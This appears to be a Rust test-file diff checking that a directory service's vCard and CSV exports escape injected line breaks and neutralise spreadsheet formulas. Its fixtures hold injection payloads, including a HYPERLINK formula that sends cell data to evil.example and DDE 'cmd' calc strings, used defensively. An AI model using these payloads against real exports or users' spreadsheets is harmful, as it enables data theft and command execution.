@@ -50,7 +50,7 @@ async fn approval_controls_what_other_countries_see() {
         let (_, l) = s.api(Some(&other), Method::GET, "/api/v1/directory?axis=4", None).await;
         assert_eq!(l["total"], 0);
         let csv = s.http.get(format!("{}/api/v1/directory/export.csv", s.base)).bearer_auth(&other).send().await.unwrap().text().await.unwrap();
-        assert!(csv.starts_with("country,name") && csv.contains("\"Laura Ficticia Mora de Solís\"") && csv.contains("\"+506 2222 0000\""), "{csv}");
+        assert!(csv.starts_with("country,name") && csv.contains("\"Laura Ficticia Mora de Solís\"") && csv.contains("\"'+506 2222 0000\""), "{csv}");
         let res = s.http.get(format!("{}/api/v1/directory/export.csv?country=cr&axis=&language=&q=", s.base)).bearer_auth(&other).send().await.unwrap();
         assert_eq!(res.status(), StatusCode::OK, "empty filters mean no filter");
         let vcf = s.http.get(format!("{}/api/v1/directory/export.vcf", s.base)).bearer_auth(&other).send().await.unwrap().text().await.unwrap();
@@ -132,4 +132,120 @@ async fn stale_entries_are_flagged_and_their_country_reminded() {
         .await;
     assert_eq!(st, StatusCode::OK);
     assert_eq!(v["stale"], false);
+}
+
+/// Creates and approves a Costa Rican entry; returns its id.
+async fn approved_entry(s: &crate::testkit::Server, data: serde_json::Value) -> String {
+    let off = s.token("officer.cr").await;
+    let appr = s.token("approver.cr").await;
+    let (st, e) = s
+        .api(Some(&off), Method::POST, "/api/v1/directory", Some(data))
+        .await;
+    assert_eq!(st, StatusCode::CREATED, "{e}");
+    let id = e["id"].as_str().unwrap().to_string();
+    let (st, _) = s
+        .api(
+            Some(&appr),
+            Method::POST,
+            &format!("/api/v1/directory/{id}/approve"),
+            None,
+        )
+        .await;
+    assert_eq!(st, StatusCode::OK);
+    id
+}
+
+async fn export(s: &crate::testkit::Server, token: &str, file: &str) -> String {
+    let res = s
+        .http
+        .get(format!("{}/api/v1/directory/{file}", s.base))
+        .bearer_auth(token)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), StatusCode::OK);
+    res.text().await.unwrap()
+}
+
+/// Line breaks in an entry (CR, CRLF, LF) cannot start a property of their own in the vCard
+/// export: every line of the output is one the exporter wrote.
+#[tokio::test]
+async fn the_vcard_export_lets_no_field_inject_a_property() {
+    each_engine(|s| async move {
+        let mut data = entry("Ana Ficticia\r\nEMAIL:name@evil.example");
+        data["position"] = json!("Jefa\rEMAIL;TYPE=INTERNET:robo@evil.example\r\nTEL:+1 555 0100\nURL:https://evil.example");
+        data["topics"] = json!("rutas\r\nEND:VCARD\r\nBEGIN:VCARD\rFN:Falso");
+        data["hours"] = json!("08:00\r\u{2028}PHOTO:x");
+        approved_entry(&s, data).await;
+        let other = s.token("officer.gt").await;
+        let vcf = export(&s, &other, "export.vcf").await;
+        assert!(!vcf.replace("\r\n", "").contains(['\r', '\n']), "no lone CR or LF: {vcf:?}");
+        assert!(vcf.ends_with("\r\n"));
+        // Unfolded, each line is a property the exporter writes, and cards pair up.
+        let unfolded = vcf.replace("\r\n ", "");
+        let lines: Vec<&str> = unfolded.split_terminator("\r\n").collect();
+        let generated = ["BEGIN:", "VERSION:", "FN:", "ORG:", "TITLE:", "TEL;TYPE=WORK:", "EMAIL;TYPE=INTERNET:", "NOTE:", "END:"];
+        for l in &lines {
+            assert!(generated.iter().any(|p| l.starts_with(p)), "injected line {l:?} in {vcf:?}");
+        }
+        assert_eq!(lines.iter().filter(|l| **l == "BEGIN:VCARD").count(), lines.iter().filter(|l| **l == "END:VCARD").count());
+        assert!(!lines.iter().any(|l| l.starts_with("EMAIL") && l.contains("evil")), "{vcf:?}");
+        assert!(!lines.iter().any(|l| l.starts_with("TEL") && l.contains("555")), "{vcf:?}");
+        assert!(!lines.iter().any(|l| l.starts_with("FN:Falso")), "{vcf:?}");
+        // The text is kept, escaped.
+        assert!(lines.contains(&"FN:Ana Ficticia\\nEMAIL:name@evil.example"), "{vcf:?}");
+        assert!(lines.contains(&"TITLE:Jefa\\nEMAIL\\;TYPE=INTERNET:robo@evil.example\\nTEL:+1 555 0100\\nURL:https://evil.example"), "{vcf:?}");
+        assert!(lines.contains(&"NOTE:rutas\\nEND:VCARD\\nBEGIN:VCARD\\nFN:Falso 08:00\\n\\nPHOTO:x"), "{vcf:?}");
+    })
+    .await;
+}
+
+/// Cells a spreadsheet would run as formulas (CSV injection) are exported as text: a leading
+/// `'`, inside a properly quoted cell.
+#[tokio::test]
+async fn the_csv_export_neutralises_formulas() {
+    each_engine(|s| async move {
+        let hyperlink = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Ver, \"\"ficha\"\"\")";
+        let mut data = entry(hyperlink);
+        data["position"] = json!("+cmd|' /C calc'!A0");
+        data["topics"] = json!("-2+3; rutas");
+        data["hours"] = json!("@SUM(1+1)*cmd|' /C calc'!A0");
+        data["email"] = json!("x@example.cr");
+        approved_entry(&s, data).await;
+        let other = s.token("officer.gt").await;
+        let text = export(&s, &other, "export.csv").await;
+        // The neutralised cell appears quoted, with its quotes doubled.
+        let quoted = format!("\"'{}\"", hyperlink.replace('"', "\"\""));
+        assert!(text.contains(&quoted), "{quoted} in {text}");
+        let mut rows = csv::Reader::from_reader(text.as_bytes());
+        let headers = rows.headers().unwrap().clone();
+        let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
+        let rows: Vec<csv::StringRecord> = rows.records().map(|r| r.unwrap()).collect();
+        for r in &rows {
+            assert_eq!(r.len(), headers.len());
+            for cell in r {
+                assert!(
+                    !cell
+                        .trim_start()
+                        .starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "formula cell {cell:?}"
+                );
+            }
+        }
+        let ours = rows
+            .iter()
+            .find(|r| r[col("name")].contains("HYPERLINK"))
+            .expect("the entry is exported");
+        assert_eq!(&ours[col("name")], format!("'{hyperlink}"));
+        assert_eq!(&ours[col("position")], "'+cmd|' /C calc'!A0");
+        assert_eq!(&ours[col("topics")], "'-2+3; rutas");
+        assert_eq!(&ours[col("hours")], "'@SUM(1+1)*cmd|' /C calc'!A0");
+        assert_eq!(&ours[col("phone")], "'+506 2222 0000");
+        assert_eq!(
+            &ours[col("email")],
+            "x@example.cr",
+            "other cells are unchanged"
+        );
+    })
+    .await;
 }
